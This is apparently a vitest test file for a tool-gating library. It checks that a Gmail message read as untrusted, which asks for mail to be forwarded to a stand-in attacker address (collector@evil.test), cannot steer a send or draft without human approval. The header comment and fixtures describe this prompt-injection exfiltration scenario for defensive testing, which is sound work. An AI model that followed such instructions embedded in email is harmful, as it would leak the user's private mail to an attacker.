import { createGate, createMemoryJournal, createToolRegistry, defineProfile, type CallOptions, type InvokeResult, type Profile } from "@toolgate/core";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { createGmailTools } from "./gmail-tools.js";
import { GMAIL_PERMISSIONS, SEND_CONSENT } from "./permissions.js";
import { OWNER, startHarness, type Harness } from "./fixtures/harness.js";

/**
 * Provenance on the gmail family, through the real client against the emulator: message bb01 (an
 * untrusted read) asks to forward mail to collector@evil.test. A send or draft to that address in
 * the same session is asked with its provenance (or refused); a send to the address the user gave
 * runs without a human under `trustedSkipsApproval`.
 */
const base = { allow: [...GMAIL_PERMISSIONS], maxRisk: "high", consents: [SEND_CONSENT], egress: ["personal"] } as const;
const asks = defineProfile({ name: "asks", ...base });
const refuses = defineProfile({ name: "refuses", ...base, provenance: { onViolation: "refuse" } });
const waives = defineProfile({ name: "waives", ...base, provenance: { trustedSkipsApproval: true } });
const INJECTED_TO = "collector@evil.test";

describe("gmail: data from a message cannot steer a send without a human", () => {
  let harness: Harness;
  beforeEach(async () => {
    harness = await startHarness();
  });
  afterEach(() => harness.emulator.close());

  function setup(profile: Profile, trusted: string[] = []) {
    const gate = createGate({
      registry: createToolRegistry({ families: [createGmailTools({ rootUrl: harness.emulator.url, from: OWNER, retry: { baseDelayMs: 0 } })] }),
      journal: createMemoryJournal(),
      connectors: harness.connectors,
      secrets: harness.secrets,
    });
    const session = gate.openSession({ trusted: trusted.map((text) => ({ text, label: "user" })) });
    const call: CallOptions = { principal: "agent-1", tenant: "home", profile, session };
    const readInjected = async () => {
      const read = await gate.invoke("gmail.read_message", { messageId: "bb01" }, call);
      expect(read).toMatchObject({ status: "ok", untrusted: true });
    };
    return { gate, call, readInjected };
  }
  const forward = { to: [INJECTED_TO], subject: "Fwd: Quarterly plan", body: "Here is the plan for next quarter." };
  const provenanceOf = (r: InvokeResult) => (r.status === "approval_required" ? r.preview.provenance : undefined);

  it("refusing profile: a send to the address the message carried is refused (provenance_refused); nothing is sent", async () => {
    const { gate, call, readInjected } = setup(refuses);
    await readInjected();
    const result = await gate.invoke("gmail.send_message", forward, call);
    expect(result).toMatchObject({ status: "denied", code: "provenance_refused" });
    expect(result.status === "denied" && result.details?.["provenance"]).toMatchObject({ verdict: "violation", action: "refused" });
    expect(await gate.approvals.list()).toEqual([]);
    expect(harness.emulator.gmail.sent).toHaveLength(0);
  });

  it("the same send is asked with preview.provenance naming the message it came from; nothing is sent", async () => {
    const { gate, call, readInjected } = setup(asks);
    await readInjected();
    const result = await gate.invoke("gmail.send_message", forward, call);
    expect(result.status).toBe("approval_required");
    const provenance = provenanceOf(result);
    expect(provenance).toMatchObject({ verdict: "violation" });
    expect(provenance?.fields[0]).toMatchObject({ path: "/to/0", label: "untrusted", role: "destination" });
    expect(provenance?.fields[0]?.sources[0]).toMatchObject({ kind: "output", toolId: "gmail.read_message", untrusted: true });
    expect(harness.emulator.gmail.sent).toHaveLength(0);
  });

  it("a draft (no approval by its manifest) to that address is escalated to a human; no draft is made", async () => {
    const { gate, call, readInjected } = setup(asks);
    await readInjected();
    const result = await gate.invoke("gmail.create_draft", forward, call);
    expect(result.status).toBe("approval_required");
    expect(provenanceOf(result)).toMatchObject({ verdict: "violation", action: "escalated" });
    expect(harness.emulator.requests.some((r) => r.endpoint === "gmail.users.drafts.create")).toBe(false);
  });

  it("trustedSkipsApproval: a send the user dictated (recipient, subject and body from trusted text) runs without a human and reaches the emulator", async () => {
    const { gate, call, readInjected } = setup(waives, [
      "Email ana@example.test, subject: Plan approved, body: The plan for next quarter is approved, thanks.",
    ]);
    await readInjected();
    // Text the model wrote itself is new: the manifest's approval stands.
    const own = await gate.invoke("gmail.send_message", { to: ["ana@example.test"], subject: "Lunch", body: "Shall we have lunch on Friday?" }, call);
    expect(provenanceOf(own), JSON.stringify(own)).toMatchObject({ verdict: "new", action: "none" });
    const result = await gate.invoke(
      "gmail.send_message",
      { to: ["ana@example.test"], subject: "Plan approved", body: "The plan for next quarter is approved, thanks." },
      call,
    );
    expect(result.status, JSON.stringify(result)).toBe("ok");
    expect(harness.emulator.gmail.sent).toHaveLength(1);
    expect(JSON.stringify(harness.emulator.gmail.sent[0])).toContain("ana@example.test");
    const checked = (await gate.journal.readAudit()).filter((e) => e.type === "provenance.checked");
    expect(checked.map((e) => (e.data as { provenance: { action: string } }).provenance.action)).toEqual(["waived"]);
    // The same profile does not waive the address the message carried.
    expect(provenanceOf(await gate.invoke("gmail.send_message", forward, call))).toMatchObject({ verdict: "violation" });
    expect(harness.emulator.gmail.sent).toHaveLength(1);
  });
});
